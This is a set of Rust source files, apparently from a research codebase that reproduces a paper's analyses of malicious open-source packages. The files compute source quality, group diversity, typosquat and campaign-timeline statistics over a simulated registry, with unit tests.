        assert_eq!(bk.frequency, "Never update");
        let phylum = rows.iter().find(|r| r.source == SourceId::Phylum).unwrap();
        assert_eq!(phylum.frequency, "one per 1 month");
        assert!(rows.iter().all(|r| r.last_update.is_some()));
        // Measured activity matches the documented cadence: Phylum
        // publishes monthly batches; never-update sources batch rarely.
        assert!(phylum.active_months >= 6, "{}", phylum.active_months);
        assert!(
            phylum.median_gap_days <= 62.0,
            "monthly source, measured gap {:.0}d",
            phylum.median_gap_days
        );
        assert!(
            bk.active_months < phylum.active_months,
            "a never-update source discloses in fewer batches ({} vs {})",
            bk.active_months,
            phylum.active_months
        );
        assert!(bk.median_gap_days >= 300.0, "{:.0}", bk.median_gap_days);
    }

    #[test]
    fn dumps_have_zero_single_mr() {
        let (rows, _) = missing_rates(&dataset());
        for dump in [SourceId::Maloss, SourceId::MalPyPI, SourceId::DataDog] {
            let row = rows.iter().find(|r| r.source == dump).unwrap();
            assert_eq!(row.single_mr_pct, 0.0, "{dump} is a dump");
            assert_eq!(row.all_mr_pct, 0.0);
        }
    }

    #[test]
    fn report_sources_have_substantial_mr() {
        let (rows, overall) = missing_rates(&dataset());
        let phylum = rows.iter().find(|r| r.source == SourceId::Phylum).unwrap();
        assert!(
            phylum.single_mr_pct > 50.0,
            "Phylum MR should be high (paper: 91.2%), got {:.1}",
            phylum.single_mr_pct
        );
        let socket = rows.iter().find(|r| r.source == SourceId::Socket).unwrap();
        assert!(socket.single_mr_pct > 60.0, "Socket ~100%: {:.1}", socket.single_mr_pct);
        assert!(
            (30.0..85.0).contains(&overall),
            "overall MR should sit near the paper's 64%, got {overall:.1}"
        );
    }

    #[test]
    fn all_mr_never_exceeds_single_mr() {
        let (rows, _) = missing_rates(&dataset());
        for row in rows {
            assert!(
                row.all_mr_pct <= row.single_mr_pct + 1e-9,
                "{}: cross-source recovery can only help",
                row.source
            );
        }
    }

    #[test]
    fn census_accounts_for_every_unavailable_package() {
        let ds = dataset();
        let census = unavailability_census(&ds, 540, 6);
        let unavailable = ds.packages.iter().filter(|p| !p.is_available()).count();
        let classified = census.released_too_early
            + census.persistence_too_short
            + census.no_mirrors
            + census.unknown;
        assert_eq!(classified, unavailable);
        assert!(
            census.persistence_too_short > 0,
            "short persistence is the dominant cause in a fast-removal world"
        );
    }
}
