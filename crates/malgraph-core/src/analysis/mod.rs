//! The paper's four empirical analyses over MALGRAPH.
//!
//! * [`overlap`] — RQ1: source overlap matrix (Table IV) and DG size
//!   distributions (Fig. 4);
//! * [`quality`] — RQ1: update frequencies (Table V), missing rates
//!   (Table VI) and the unavailability-cause census (Fig. 5);
//! * [`diversity`] — RQ2: group censuses per ecosystem (Table VII) and
//!   the Table II relation statistics;
//! * [`campaign`] — RQ3: active periods (Fig. 9), life-cycle phase gaps
//!   (Fig. 6), campaign timelines (Fig. 8);
//! * [`actors`] — RQ3 context: actor attribution from reports (the
//!   paper's finding 4, quantified);
//! * [`evolution`] — RQ4: changing-operation distribution (Fig. 12),
//!   download evolution (Fig. 11) and the IDN ranking (Table VIII);
//! * [`timeline`] — the Fig.-2 release timeline and the §II-D
//!   stability-over-time check;
//! * [`typosquat`] — extension: which popular packages attackers
//!   impersonate (§V's "most popular attack vector", measured);
//! * [`index`] — the shared corpus lookup structures the passes above
//!   query instead of rescanning the dataset.

pub mod actors;
pub mod campaign;
pub mod diversity;
pub mod evolution;
pub mod index;
pub mod overlap;
pub mod quality;
pub mod timeline;
pub mod typosquat;
