//! RQ2 — Malicious-package diversity: group censuses per ecosystem
//! (paper Table VII) and the relation statistics of Table II.

use crate::build::MalGraph;
use crate::node::Relation;
use graphstore::stats::GroupCensus;
use oss_types::Ecosystem;

/// Table VII cell: group count and average size for one relation in one
/// ecosystem.
#[derive(Debug, Clone, PartialEq)]
pub struct DiversityCell {
    /// Number of groups.
    pub groups: usize,
    /// Mean group size in *packages*.
    pub avg_size: f64,
}

/// One ecosystem row of Table VII.
#[derive(Debug, Clone, PartialEq)]
pub struct DiversityRow {
    /// The ecosystem.
    pub ecosystem: Ecosystem,
    /// Similarity groups.
    pub sg: DiversityCell,
    /// Dependency groups.
    pub deg: DiversityCell,
    /// Co-existing groups.
    pub cg: DiversityCell,
}

/// Computes Table VII for the three major ecosystems.
///
/// Group sizes are measured in distinct packages; a component is
/// attributed to the ecosystem of its first node (groups never span
/// ecosystems — all four relations are intra-ecosystem by construction,
/// except co-existing, where a cross-ecosystem report attributes the
/// group to its first package's ecosystem).
pub fn table7(graph: &MalGraph) -> Vec<DiversityRow> {
    Ecosystem::MAJOR
        .iter()
        .map(|&eco| DiversityRow {
            ecosystem: eco,
            sg: census_for(graph, Relation::Similar, eco),
            deg: census_for(graph, Relation::Dependency, eco),
            cg: census_for(graph, Relation::Coexisting, eco),
        })
        .collect()
}

fn census_for(graph: &MalGraph, relation: Relation, eco: Ecosystem) -> DiversityCell {
    let comps: Vec<Vec<graphstore::NodeId>> = graph
        .groups(relation)
        .into_iter()
        .filter(|c| graph.graph.node(c[0]).ecosystem() == eco)
        .collect();
    let census = GroupCensus::from_components(&comps);
    DiversityCell {
        groups: census.group_count,
        avg_size: census.avg_size,
    }
}

/// A Table II row.
#[derive(Debug, Clone, PartialEq)]
pub struct Table2Row {
    /// Relation (DG/DeG/SG/CG).
    pub relation: Relation,
    /// Incident nodes.
    pub nodes: usize,
    /// Directed edges.
    pub edges: usize,
    /// Average out-degree over incident nodes.
    pub avg_out_degree: f64,
    /// Average in-degree over incident nodes.
    pub avg_in_degree: f64,
}

/// Computes Table II (node/edge/degree summary per relation graph).
pub fn table2(graph: &MalGraph) -> Vec<Table2Row> {
    Relation::ALL
        .into_iter()
        .map(|relation| {
            let stats = graph.relation_stats(relation);
            Table2Row {
                relation,
                nodes: stats.nodes,
                edges: stats.edges,
                avg_out_degree: stats.avg_out_degree,
                avg_in_degree: stats.avg_in_degree,
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build::{build, BuildOptions};
    use crawler::collect;
    use registry_sim::{World, WorldConfig};

    fn graph() -> MalGraph {
        let world = World::generate(WorldConfig::small(61));
        build(&collect(&world), &BuildOptions::default())
    }

    #[test]
    fn table7_orders_ecosystems_like_the_paper() {
        let rows = table7(&graph());
        assert_eq!(rows.len(), 3);
        assert_eq!(rows[0].ecosystem, Ecosystem::Npm);
        assert_eq!(rows[1].ecosystem, Ecosystem::PyPI);
        assert_eq!(rows[2].ecosystem, Ecosystem::RubyGems);
    }

    #[test]
    fn pypi_sg_groups_are_larger_than_npm_on_average() {
        // Paper Table VII: PyPI SG mean 137 vs NPM 17.8 — the flood
        // campaign lives in PyPI.
        let rows = table7(&graph());
        let npm = &rows[0];
        let pypi = &rows[1];
        assert!(pypi.sg.groups > 0 && npm.sg.groups > 0);
        assert!(
            pypi.sg.avg_size > npm.sg.avg_size,
            "PyPI mean {} vs NPM {}",
            pypi.sg.avg_size,
            npm.sg.avg_size
        );
    }

    #[test]
    fn deg_groups_are_tiny_and_rare() {
        let rows = table7(&graph());
        for row in &rows {
            if row.deg.groups > 0 {
                assert!(
                    row.deg.avg_size <= 4.0,
                    "{}: DeG mean should be ≈2, got {}",
                    row.ecosystem,
                    row.deg.avg_size
                );
                assert!(row.deg.groups <= row.sg.groups.max(1) * 2);
            }
        }
        // NPM carries most DeGs (11 vs 1 vs 0 in the paper).
        assert!(rows[0].deg.groups >= rows[2].deg.groups);
    }

    #[test]
    fn table2_has_all_four_relations_and_sane_degrees() {
        let rows = table2(&graph());
        assert_eq!(rows.len(), 4);
        for row in &rows {
            if row.nodes > 0 {
                let implied = row.edges as f64 / row.nodes as f64;
                assert!((implied - row.avg_out_degree).abs() < 1e-9);
            }
        }
        let sg = rows.iter().find(|r| r.relation == Relation::Similar).unwrap();
        let dg = rows.iter().find(|r| r.relation == Relation::Duplicated).unwrap();
        assert!(sg.nodes > 0, "similar graph must be populated");
        assert!(dg.nodes > 0, "duplicated graph must be populated");
        // Paper Table II shape: SG is by far the densest relation.
        assert!(sg.avg_out_degree > dg.avg_out_degree);
    }
}
