//! RQ2 — Malicious-package diversity: group censuses per ecosystem
//! (paper Table VII) and the relation statistics of Table II.

use crate::build::MalGraph;
use crate::node::Relation;
use graphstore::stats::GroupCensus;
use oss_types::Ecosystem;

/// Table VII cell: group count and average size for one relation in one
/// ecosystem.
#[derive(Debug, Clone, PartialEq)]
pub struct DiversityCell {
    /// Number of groups.
    pub groups: usize,
    /// Mean group size in *packages*.
    pub avg_size: f64,
}

/// One ecosystem row of Table VII.
#[derive(Debug, Clone, PartialEq)]
pub struct DiversityRow {
    /// The ecosystem.
    pub ecosystem: Ecosystem,
    /// Similarity groups.
    pub sg: DiversityCell,
    /// Dependency groups.
    pub deg: DiversityCell,
    /// Co-existing groups.
    pub cg: DiversityCell,
}

/// Computes Table VII for the three major ecosystems.
///
/// Group sizes are measured in distinct packages; a component is
/// attributed to the ecosystem of its first node (groups never span
/// ecosystems — all four relations are intra-ecosystem by construction,
/// except co-existing, where a cross-ecosystem report attributes the
/// group to its first package's ecosystem).
pub fn table7(graph: &MalGraph) -> Vec<DiversityRow> {
    Ecosystem::MAJOR
        .iter()
        .map(|&eco| DiversityRow {
            ecosystem: eco,
            sg: census_for(graph, Relation::Similar, eco),
            deg: census_for(graph, Relation::Dependency, eco),
            cg: census_for(graph, Relation::Coexisting, eco),
        })
        .collect()
}

fn census_for(graph: &MalGraph, relation: Relation, eco: Ecosystem) -> DiversityCell {
    // Cached components; only the sizes of the ecosystem's groups feed
    // the census, so nothing is copied.
    let census = GroupCensus::from_sizes(
        graph
            .groups(relation)
            .iter()
            .filter(|c| graph.graph.node(c[0]).ecosystem() == eco)
            .map(Vec::len),
    );
    DiversityCell {
        groups: census.group_count,
        avg_size: census.avg_size,
    }
}

/// [`table7`] recomputed from the raw adjacency on every call — the
/// serial-reference path of the equivalence harness (the pre-index code
/// path, kept as the oracle the cached variant is asserted against).
pub fn table7_reference(graph: &MalGraph) -> Vec<DiversityRow> {
    let census_fresh = |relation: Relation, eco: Ecosystem| {
        let comps: Vec<Vec<graphstore::NodeId>> = graph
            .graph
            .components(|l| *l == relation)
            .into_iter()
            .filter(|c| graph.graph.node(c[0]).ecosystem() == eco)
            .collect();
        let census = GroupCensus::from_components(&comps);
        DiversityCell {
            groups: census.group_count,
            avg_size: census.avg_size,
        }
    };
    Ecosystem::MAJOR
        .iter()
        .map(|&eco| DiversityRow {
            ecosystem: eco,
            sg: census_fresh(Relation::Similar, eco),
            deg: census_fresh(Relation::Dependency, eco),
            cg: census_fresh(Relation::Coexisting, eco),
        })
        .collect()
}

/// A Table II row.
#[derive(Debug, Clone, PartialEq)]
pub struct Table2Row {
    /// Relation (DG/DeG/SG/CG).
    pub relation: Relation,
    /// Incident nodes.
    pub nodes: usize,
    /// Directed edges.
    pub edges: usize,
    /// Average out-degree over incident nodes.
    pub avg_out_degree: f64,
    /// Average in-degree over incident nodes.
    pub avg_in_degree: f64,
}

/// Computes Table II (node/edge/degree summary per relation graph) from
/// the cached per-relation indexes.
pub fn table2(graph: &MalGraph) -> Vec<Table2Row> {
    Relation::ALL
        .into_iter()
        .map(|relation| row_from_stats(relation, graph.relation_stats(relation)))
        .collect()
}

/// [`table2`] recomputed with degree scans over the raw adjacency — the
/// serial-reference path of the equivalence harness.
pub fn table2_reference(graph: &MalGraph) -> Vec<Table2Row> {
    Relation::ALL
        .into_iter()
        .map(|relation| {
            row_from_stats(
                relation,
                graphstore::stats::RelationStats::compute(&graph.graph, |l| *l == relation),
            )
        })
        .collect()
}

fn row_from_stats(relation: Relation, stats: graphstore::stats::RelationStats) -> Table2Row {
    Table2Row {
        relation,
        nodes: stats.nodes,
        edges: stats.edges,
        avg_out_degree: stats.avg_out_degree,
        avg_in_degree: stats.avg_in_degree,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build::{build, BuildOptions};
    use crawler::collect;
    use registry_sim::{World, WorldConfig};

    fn graph() -> MalGraph {
        let world = World::generate(WorldConfig::small(61));
        build(&collect(&world), &BuildOptions::default())
    }

    #[test]
    fn table7_orders_ecosystems_like_the_paper() {
        let rows = table7(&graph());
        assert_eq!(rows.len(), 3);
        assert_eq!(rows[0].ecosystem, Ecosystem::Npm);
        assert_eq!(rows[1].ecosystem, Ecosystem::PyPI);
        assert_eq!(rows[2].ecosystem, Ecosystem::RubyGems);
    }

    #[test]
    fn pypi_sg_groups_are_larger_than_npm_on_average() {
        // Paper Table VII: PyPI SG mean 137 vs NPM 17.8 — the flood
        // campaign lives in PyPI.
        let rows = table7(&graph());
        let npm = &rows[0];
        let pypi = &rows[1];
        assert!(pypi.sg.groups > 0 && npm.sg.groups > 0);
        assert!(
            pypi.sg.avg_size > npm.sg.avg_size,
            "PyPI mean {} vs NPM {}",
            pypi.sg.avg_size,
            npm.sg.avg_size
        );
    }

    #[test]
    fn deg_groups_are_tiny_and_rare() {
        let rows = table7(&graph());
        for row in &rows {
            if row.deg.groups > 0 {
                assert!(
                    row.deg.avg_size <= 4.0,
                    "{}: DeG mean should be ≈2, got {}",
                    row.ecosystem,
                    row.deg.avg_size
                );
                assert!(row.deg.groups <= row.sg.groups.max(1) * 2);
            }
        }
        // NPM carries most DeGs (11 vs 1 vs 0 in the paper).
        assert!(rows[0].deg.groups >= rows[2].deg.groups);
    }

    #[test]
    fn cached_tables_match_reference_recomputation() {
        let graph = graph();
        assert_eq!(table7(&graph), table7_reference(&graph));
        assert_eq!(table2(&graph), table2_reference(&graph));
    }

    #[test]
    fn table2_has_all_four_relations_and_sane_degrees() {
        let rows = table2(&graph());
        assert_eq!(rows.len(), 4);
        for row in &rows {
            if row.nodes > 0 {
                let implied = row.edges as f64 / row.nodes as f64;
                assert!((implied - row.avg_out_degree).abs() < 1e-9);
            }
        }
        let sg = rows.iter().find(|r| r.relation == Relation::Similar).unwrap();
        let dg = rows.iter().find(|r| r.relation == Relation::Duplicated).unwrap();
        assert!(sg.nodes > 0, "similar graph must be populated");
        assert!(dg.nodes > 0, "duplicated graph must be populated");
        // Paper Table II shape: SG is by far the densest relation.
        assert!(sg.avg_out_degree > dg.avg_out_degree);
    }
}
