//! Extension — typosquat targeting.
//!
//! The related-work section of the paper calls typosquatting "the most
//! popular attack vector in the OSS ecosystem" (§V, citing Spellbound and
//! LastPyMile). The corpus makes that measurable: for every collected
//! package name, find the closest popular legitimate package within edit
//! distance 2 and census which targets attackers impersonate most.

use crate::analysis::index::AnalysisIndex;
use crawler::{CollectedDataset, CollectedPackage};
use oss_types::name::levenshtein_bounded;
use oss_types::Ecosystem;
use std::collections::HashMap;

/// One row of the typosquat census.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TyposquatRow {
    /// The legitimate package being impersonated.
    pub target: &'static str,
    /// Number of corpus packages within edit distance 2 of it.
    pub squatters: usize,
}

/// Result of the typosquat analysis.
#[derive(Debug, Clone, PartialEq)]
pub struct TyposquatCensus {
    /// Targets with at least one squatter, most-squatted first.
    pub rows: Vec<TyposquatRow>,
    /// Corpus packages that squat *some* target.
    pub squatting_packages: usize,
    /// Total corpus packages inspected.
    pub total_packages: usize,
}

impl TyposquatCensus {
    /// Fraction of the corpus that typosquats a popular package.
    pub fn squat_rate(&self) -> f64 {
        if self.total_packages == 0 {
            0.0
        } else {
            self.squatting_packages as f64 / self.total_packages as f64
        }
    }
}

/// The paper's distance threshold: a stem within two edits of a popular
/// name counts as impersonating it.
const SQUAT_BOUND: usize = 2;

/// Runs the census over the corpus, optionally per ecosystem. A package
/// counts as a squatter of the *closest* target (ties broken by target
/// order) when its name's stem is within edit distance 2.
pub fn typosquat_census(
    dataset: &CollectedDataset,
    ecosystem: Option<Ecosystem>,
) -> TyposquatCensus {
    census_over(dataset.packages.iter().filter(|pkg| {
        ecosystem.is_none_or(|eco| pkg.id.ecosystem() == eco)
    }))
}

/// [`typosquat_census`] over the index's per-ecosystem partition — the
/// `Some(ecosystem)` case touches only that ecosystem's packages instead
/// of filtering the whole corpus.
pub fn typosquat_census_indexed(
    index: &AnalysisIndex,
    dataset: &CollectedDataset,
    ecosystem: Option<Ecosystem>,
) -> TyposquatCensus {
    match ecosystem {
        None => census_over(dataset.packages.iter()),
        Some(eco) => census_over(
            index
                .packages_in(eco)
                .iter()
                .map(|&i| &dataset.packages[i]),
        ),
    }
}

fn census_over<'d>(packages: impl Iterator<Item = &'d CollectedPackage>) -> TyposquatCensus {
    let targets = &registry_sim::names::POPULAR_TARGETS;
    let mut counts: HashMap<&'static str, usize> = HashMap::new();
    let mut squatting = 0usize;
    let mut total = 0usize;
    for pkg in packages {
        total += 1;
        // Campaign names carry uniqueness suffixes (`reqests-4f`); squat
        // detection uses the stem before the last dash group.
        let name = pkg.id.name().as_str();
        let stem = name.rsplit_once('-').map(|(s, _)| s).unwrap_or(name);
        // The banded distance is `None` above the bound, so targets more
        // than two edits away never reach the `min` — which cannot change
        // the winner: a first-minimum at distance ≤ 2 beats every pruned
        // (> 2) target, and when all targets are pruned the package was
        // never counted anyway.
        let best = targets
            .iter()
            .filter_map(|t| levenshtein_bounded(stem, t, SQUAT_BOUND).map(|d| (d, *t)))
            .min_by_key(|&(d, _)| d);
        if let Some((_, target)) = best {
            if stem != target {
                *counts.entry(target).or_default() += 1;
                squatting += 1;
            }
        }
    }
    let mut rows: Vec<TyposquatRow> = counts
        .into_iter()
        .map(|(target, squatters)| TyposquatRow { target, squatters })
        .collect();
    rows.sort_by(|a, b| b.squatters.cmp(&a.squatters).then(a.target.cmp(b.target)));
    TyposquatCensus {
        rows,
        squatting_packages: squatting,
        total_packages: total,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crawler::collect;
    use registry_sim::{World, WorldConfig};

    #[test]
    fn census_finds_squatters_in_the_corpus() {
        let world = World::generate(WorldConfig::small(131));
        let ds = collect(&world);
        let census = typosquat_census(&ds, None);
        assert_eq!(census.total_packages, ds.packages.len());
        assert!(
            census.squatting_packages > 0,
            "the name generator emits typosquats by design"
        );
        assert!(!census.rows.is_empty());
        // Rows are sorted descending.
        for pair in census.rows.windows(2) {
            assert!(pair[0].squatters >= pair[1].squatters);
        }
        // Census total consistency.
        let sum: usize = census.rows.iter().map(|r| r.squatters).sum();
        assert_eq!(sum, census.squatting_packages);
        assert!(census.squat_rate() > 0.0 && census.squat_rate() < 1.0);
    }

    #[test]
    fn ecosystem_filter_partitions() {
        let world = World::generate(WorldConfig::small(132));
        let ds = collect(&world);
        let all = typosquat_census(&ds, None);
        let per_eco: usize = Ecosystem::ALL
            .iter()
            .map(|&e| typosquat_census(&ds, Some(e)).squatting_packages)
            .sum();
        assert_eq!(all.squatting_packages, per_eco);
    }

    #[test]
    fn indexed_census_matches_filtered_census() {
        let world = World::generate(WorldConfig::small(131));
        let ds = collect(&world);
        let index = AnalysisIndex::new(&ds);
        assert_eq!(
            typosquat_census_indexed(&index, &ds, None),
            typosquat_census(&ds, None)
        );
        for &eco in &Ecosystem::ALL {
            assert_eq!(
                typosquat_census_indexed(&index, &ds, Some(eco)),
                typosquat_census(&ds, Some(eco)),
                "{eco:?}"
            );
        }
    }

    #[test]
    fn empty_corpus_is_handled() {
        let ds = CollectedDataset {
            packages: vec![],
            reports: vec![],
            website_count: 0,
            collect_time: oss_types::SimTime::EPOCH,
            health: None,
        };
        let census = typosquat_census(&ds, None);
        assert_eq!(census.squat_rate(), 0.0);
        assert!(census.rows.is_empty());
    }
}
