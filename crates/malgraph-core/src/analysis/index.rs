//! Corpus-side analysis index.
//!
//! The RQ passes keep asking the same corpus questions: "which dataset
//! package is this node's `PackageId`?", "when was it released?",
//! "what are the SG release sequences?". Before this index each pass
//! rebuilt the answer from scratch — `release_sequences` alone was
//! recomputed by four figures plus the acceptance checks. The
//! [`AnalysisIndex`] computes each answer once per corpus and shares it
//! across every experiment (and across the parallel harness's worker
//! threads — the memoized parts sit behind [`OnceLock`], which
//! serialises concurrent first queries).
//!
//! The index stores dataset *positions* (`usize` into
//! `dataset.packages`), not references, so it carries no lifetime and
//! can live on [`MalGraph`] next to the graph it describes. It is a
//! snapshot of the dataset it was built from: methods that take the
//! dataset again assert the package count still matches.

use crate::build::MalGraph;
use crate::node::Relation;
use crawler::{CollectedDataset, CollectedPackage};
use oss_types::{Ecosystem, PackageId, SimTime};
use std::collections::HashMap;
use std::sync::OnceLock;

/// Shared lookup structures over one collected corpus.
#[derive(Debug)]
pub struct AnalysisIndex {
    /// Guard: the corpus size this index was built from.
    package_count: usize,
    /// `PackageId` → position in `dataset.packages`. Later positions win
    /// on duplicate ids, matching the `HashMap::collect` the passes used
    /// to build inline.
    by_id: HashMap<PackageId, usize>,
    /// Per-package release time: registry metadata, else first source
    /// mention, else the epoch — the sort key shared by the evolution
    /// sequences and the campaign active-period analysis.
    release_time: Vec<SimTime>,
    /// Dataset positions per ecosystem, in [`Ecosystem::ALL`] order,
    /// preserving dataset order within each partition.
    eco_packages: Vec<Vec<usize>>,
    /// Memoized SG release sequences as dataset positions (members
    /// sorted by release time, groups of fewer than two members
    /// dropped), in `graph.groups(Similar)` order.
    sg_sequences: OnceLock<Vec<Vec<u32>>>,
}

impl AnalysisIndex {
    /// Builds the index with one pass over the corpus.
    pub fn new(dataset: &CollectedDataset) -> AnalysisIndex {
        // Detached: built lazily under whichever analysis pass gets there
        // first, so it roots its own profile stack (see obs::detached).
        let _detached = obs::detached();
        let _span = obs::span!("analysis/corpus-index");
        obs::counter_add("analysis.corpus_index_builds", 1);
        let mut by_id = HashMap::with_capacity(dataset.packages.len());
        let mut release_time = Vec::with_capacity(dataset.packages.len());
        let mut eco_packages = vec![Vec::new(); Ecosystem::ALL.len()];
        for (i, p) in dataset.packages.iter().enumerate() {
            by_id.insert(p.id.clone(), i);
            release_time.push(
                p.meta
                    .map(|m| m.released)
                    .or_else(|| p.mentions.iter().map(|&(_, t)| t).min())
                    .unwrap_or(SimTime::EPOCH),
            );
            eco_packages[eco_slot(p.id.ecosystem())].push(i);
        }
        AnalysisIndex {
            package_count: dataset.packages.len(),
            by_id,
            release_time,
            eco_packages,
            sg_sequences: OnceLock::new(),
        }
    }

    /// Position of `id` in the dataset's package list.
    pub fn package_index(&self, id: &PackageId) -> Option<usize> {
        self.by_id.get(id).copied()
    }

    /// Release time of the package at dataset position `index`.
    pub fn release_time(&self, index: usize) -> SimTime {
        self.release_time[index]
    }

    /// Release time of `id`, `None` when the package is not in the
    /// corpus.
    pub fn release_time_of(&self, id: &PackageId) -> Option<SimTime> {
        self.package_index(id).map(|i| self.release_time[i])
    }

    /// Dataset positions of every package in `ecosystem`, in dataset
    /// order.
    pub fn packages_in(&self, ecosystem: Ecosystem) -> &[usize] {
        &self.eco_packages[eco_slot(ecosystem)]
    }

    /// The SG release sequences, memoized on first call — identical to
    /// [`crate::analysis::evolution::release_sequences`] over the same
    /// graph and dataset (same cached groups, same stable sort on the
    /// same key, same minimum length of two).
    ///
    /// # Panics
    ///
    /// Panics when `dataset` is not the corpus this index was built from
    /// (checked by package count).
    pub fn release_sequences<'d>(
        &self,
        graph: &MalGraph,
        dataset: &'d CollectedDataset,
    ) -> Vec<Vec<&'d CollectedPackage>> {
        assert_eq!(
            dataset.packages.len(),
            self.package_count,
            "AnalysisIndex used with a different corpus"
        );
        self.sequence_positions(graph)
            .iter()
            .map(|seq| {
                seq.iter()
                    .map(|&i| &dataset.packages[i as usize])
                    .collect()
            })
            .collect()
    }

    fn sequence_positions(&self, graph: &MalGraph) -> &[Vec<u32>] {
        self.sg_sequences.get_or_init(|| {
            let _detached = obs::detached();
            let _span = obs::span!("analysis/sequences");
            obs::counter_add("analysis.sequence_builds", 1);
            graph
                .groups(Relation::Similar)
                .iter()
                .map(|group| {
                    let mut members: Vec<u32> = group
                        .iter()
                        .filter_map(|&n| self.by_id.get(&graph.graph.node(n).package))
                        .map(|&i| u32::try_from(i).expect("corpus too large"))
                        .collect();
                    members.sort_by_key(|&i| self.release_time[i as usize]);
                    members
                })
                .filter(|seq| seq.len() >= 2)
                .collect()
        })
    }
}

fn eco_slot(ecosystem: Ecosystem) -> usize {
    Ecosystem::ALL
        .iter()
        .position(|e| *e == ecosystem)
        .expect("ecosystem listed in ALL")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::evolution;
    use crate::build::{build, BuildOptions};
    use crawler::collect;
    use registry_sim::{World, WorldConfig};

    fn corpus() -> (CollectedDataset, MalGraph) {
        let world = World::generate(WorldConfig::small(77));
        let dataset = collect(&world);
        let graph = build(&dataset, &BuildOptions::default());
        (dataset, graph)
    }

    #[test]
    fn lookups_match_linear_scans() {
        let (dataset, _) = corpus();
        let index = AnalysisIndex::new(&dataset);
        for (i, p) in dataset.packages.iter().enumerate() {
            let found = index.package_index(&p.id).expect("package indexed");
            // Duplicate ids resolve to the last occurrence; either way the
            // id round-trips.
            assert_eq!(dataset.packages[found].id, p.id);
            if found == i {
                assert_eq!(
                    index.release_time(i),
                    p.meta
                        .map(|m| m.released)
                        .or_else(|| p.mentions.iter().map(|&(_, t)| t).min())
                        .unwrap_or(SimTime::EPOCH)
                );
            }
        }
        let partitioned: usize = Ecosystem::ALL
            .iter()
            .map(|&e| index.packages_in(e).len())
            .sum();
        assert_eq!(partitioned, dataset.packages.len());
    }

    #[test]
    fn sequences_match_direct_computation() {
        let (dataset, graph) = corpus();
        let index = AnalysisIndex::new(&dataset);
        let direct = evolution::release_sequences(&graph, &dataset);
        let indexed = index.release_sequences(&graph, &dataset);
        assert_eq!(direct.len(), indexed.len());
        for (a, b) in direct.iter().zip(&indexed) {
            let ids_a: Vec<_> = a.iter().map(|p| &p.id).collect();
            let ids_b: Vec<_> = b.iter().map(|p| &p.id).collect();
            assert_eq!(ids_a, ids_b);
        }
    }
}
