//! RQ3 — Attack campaigns: active periods (Fig. 9), life-cycle phase
//! statistics (Fig. 6) and campaign timelines (Fig. 8).

use crate::analysis::index::AnalysisIndex;
use crate::build::MalGraph;
use crate::node::Relation;
use crawler::CollectedDataset;
use graphstore::NodeId;
use oss_types::{PackageId, SimDuration, SimTime};

/// Active period of one group: `t_l − t_f` over its packages' release
/// times (falling back to first-disclosure when metadata is missing).
/// Served from the cached component index and the shared release-time
/// table.
pub fn active_periods(
    graph: &MalGraph,
    dataset: &CollectedDataset,
    relation: Relation,
) -> Vec<SimDuration> {
    active_periods_in(
        graph.groups(relation),
        graph,
        graph.analysis_index(dataset),
    )
}

/// [`active_periods`] over an explicit group list — the serial-reference
/// path of the equivalence harness passes freshly computed components
/// through here.
pub fn active_periods_in(
    groups: &[Vec<NodeId>],
    graph: &MalGraph,
    index: &AnalysisIndex,
) -> Vec<SimDuration> {
    groups
        .iter()
        .filter_map(|group| {
            let times: Vec<SimTime> = group
                .iter()
                .filter_map(|&n| index.release_time_of(&graph.graph.node(n).package))
                .collect();
            let first = times.iter().min()?;
            let last = times.iter().max()?;
            Some(*last - *first)
        })
        .collect()
}

/// Empirical CDF over durations in fractional years (Fig. 9's axis).
pub fn period_cdf(periods: &[SimDuration]) -> Vec<(f64, f64)> {
    let mut years: Vec<f64> = periods.iter().map(|d| d.as_years_f64()).collect();
    years.sort_by(f64::total_cmp);
    let n = years.len() as f64;
    years
        .iter()
        .enumerate()
        .map(|(i, &y)| (y, (i + 1) as f64 / n))
        .collect()
}

/// Fraction of periods at or below `threshold`.
pub fn fraction_within(periods: &[SimDuration], threshold: SimDuration) -> f64 {
    if periods.is_empty() {
        return 0.0;
    }
    periods.iter().filter(|&&p| p <= threshold).count() as f64 / periods.len() as f64
}

/// Life-cycle statistics (Fig. 6): how long packages persist between the
/// release and removal phases, measured from registry metadata.
#[derive(Debug, Clone, PartialEq)]
pub struct LifecycleStats {
    /// Packages with both release and removal metadata.
    pub measured: usize,
    /// Median persistence in hours.
    pub median_persistence_hours: f64,
    /// 90th-percentile persistence in hours.
    pub p90_persistence_hours: f64,
    /// Fraction removed within 24 hours.
    pub removed_within_day: f64,
}

/// Computes life-cycle phase statistics over the corpus.
pub fn lifecycle_stats(dataset: &CollectedDataset) -> LifecycleStats {
    let mut hours: Vec<f64> = dataset
        .packages
        .iter()
        .filter_map(|p| p.meta)
        .filter_map(|m| m.removed.map(|r| (r - m.released).as_minutes() as f64 / 60.0))
        .collect();
    hours.sort_by(f64::total_cmp);
    let measured = hours.len();
    let pick = |q: f64| -> f64 {
        if hours.is_empty() {
            return 0.0;
        }
        let idx = ((hours.len() - 1) as f64 * q).round() as usize;
        hours[idx]
    };
    LifecycleStats {
        measured,
        median_persistence_hours: pick(0.5),
        p90_persistence_hours: pick(0.9),
        removed_within_day: if measured == 0 {
            0.0
        } else {
            hours.iter().filter(|&&h| h <= 24.0).count() as f64 / measured as f64
        },
    }
}

/// One row of a Fig.-8-style campaign timeline.
#[derive(Debug, Clone, PartialEq)]
pub struct TimelineEntry {
    /// Release date.
    pub released: SimTime,
    /// Package identity.
    pub package: PackageId,
}

/// Reconstructs the release timeline of the co-existing group containing
/// `member` (Fig. 8 uses the August-2023 npm campaign). The traversal
/// runs over the cached CSR snapshot instead of re-walking the labeled
/// adjacency lists.
pub fn campaign_timeline(
    graph: &MalGraph,
    dataset: &CollectedDataset,
    member: &PackageId,
) -> Vec<TimelineEntry> {
    let Some(node) = graph.primary_node(member) else {
        return Vec::new();
    };
    let group = graph.adjacency(Relation::Coexisting).reachable(node);
    timeline_entries(group, graph, dataset)
}

/// [`campaign_timeline`] over the raw adjacency lists — the
/// serial-reference path of the equivalence harness ([`AdjacencyIndex`]'s
/// BFS is asserted byte-identical to this one).
///
/// [`AdjacencyIndex`]: graphstore::index::AdjacencyIndex
pub fn campaign_timeline_reference(
    graph: &MalGraph,
    dataset: &CollectedDataset,
    member: &PackageId,
